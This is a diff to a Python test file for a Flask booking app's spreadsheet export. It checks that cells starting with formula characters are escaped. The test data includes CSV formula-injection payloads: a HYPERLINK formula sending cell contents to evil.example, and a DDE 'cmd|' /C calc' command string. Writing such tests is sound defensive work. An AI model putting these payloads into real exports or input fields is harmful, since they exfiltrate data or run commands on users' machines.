@@ -140,7 +140,7 @@ def test_the_file_has_the_same_selection_in_utc_and_local_time(app: Flask, admin
 @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
 def test_no_cell_is_a_formula(app: Flask, admin: Browser, first: str) -> None:
     """Whatever an attendee called themselves or asked: a spreadsheet shows it and calculates nothing."""
-    hostile = f"""{first}HYPERLINK("https://evil.example?"&A1,"x"),{first}1\n{first}cmd|' /C calc'!A0"""
+    hostile = f"""{first}HYPERLINK("https://evil.example?"&A1,"x"),{first}1"""
     with app.app_context():
         db.session.execute(sa.update(Booking).values(attendee_name=hostile, question=hostile, cancel_reason=hostile))
         db.session.commit()
@@ -149,9 +149,19 @@ def test_no_cell_is_a_formula(app: Flask, admin: Browser, first: str) -> None:
         assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")) for cell in row.values())
 
 
+def test_no_cell_is_a_formula_to_a_program_that_splits_otherwise(app: Flask, admin: Browser) -> None:
+    """At semicolons, tabs and every line break, and blind to quotes, as where a comma stands in numbers."""
+    hostile = """a;=1;@SUM(A1)\t-2\n+3\r\n＝cmd|' /C calc'!A0"""
+    with app.app_context():
+        db.session.execute(sa.update(Booking).values(attendee_name=hostile, question=hostile))
+        db.session.commit()
+    for row in downloaded(admin):
+        assert row["question"] == """a;'=1;'@SUM(A1)\t'-2\n'+3\r\n'＝cmd|' /C calc'!A0"""
+
+
 def test_names_with_signs_of_the_format_stay_in_their_cell(app: Flask, admin: Browser) -> None:
     """Commas, quotes and line breaks neither begin a cell nor end a row."""
-    name = 'Asha, "Rao"\r\n=1+1'
+    name = 'Asha, "Rao"\r\n; 1+1'
     with app.app_context():
         db.session.execute(sa.update(Booking).values(attendee_name=name))
         db.session.commit()
